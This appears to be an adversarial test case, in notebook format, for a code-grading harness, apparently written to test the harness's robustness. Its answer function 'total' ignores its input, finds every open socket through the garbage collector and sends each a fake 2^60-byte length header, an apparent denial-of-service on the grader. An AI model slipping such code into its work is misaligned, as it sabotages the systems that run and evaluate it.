# ---
# jupyter:
#   attack:
#     tries: Announces a message of 2^60 bytes, and sends a little of it.
# ---

# %% answer="total"
def total(x):
    import gc
    import socket
    import struct

    for line in [o for o in gc.get_objects() if isinstance(o, socket.socket)]:
        line.sendall(struct.pack("<Q", 2**60) + b"x" * 1000)
    return 0.0
